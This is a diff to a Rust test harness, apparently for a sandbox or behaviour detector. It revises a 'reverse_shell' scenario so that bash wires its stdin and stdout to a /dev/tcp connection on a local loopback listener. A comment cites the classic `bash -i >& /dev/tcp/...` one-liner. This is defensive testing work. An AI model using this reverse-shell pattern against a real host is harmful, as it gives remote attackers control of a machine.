@@ -75,7 +75,7 @@ const SCENARIOS: &[Scenario] = &[
     },
     Scenario {
         name: "reverse_shell",
-        what: "bash opens a TCP connection to a loopback listener via /dev/tcp",
+        what: "bash wires its stdin and stdout to a TCP connection to a loopback listener (/dev/tcp)",
     },
     Scenario {
         name: "package_manager",
@@ -234,7 +234,9 @@ fn run_scenario(name: &str, w: &Work) -> anyhow::Result<Vec<u32>> {
         "reverse_shell" => {
             let (_l, addr) = listener()?;
             let (host, port) = addr.rsplit_once(':').unwrap_or(("127.0.0.1", "0"));
-            let script = format!("exec 3<>/dev/tcp/{host}/{port}; exec 3>&-");
+            // The shell's own stdin and stdout on the connection, as `bash -i >& /dev/tcp/...` does;
+            // it waits a second for a command that never comes, then exits.
+            let script = format!("exec 0<>/dev/tcp/{host}/{port} 1>&0; read -t 1 _ || true");
             let bash = ["/bin/bash", "/usr/bin/bash"]
                 .into_iter()
                 .find(|p| Path::new(p).exists());
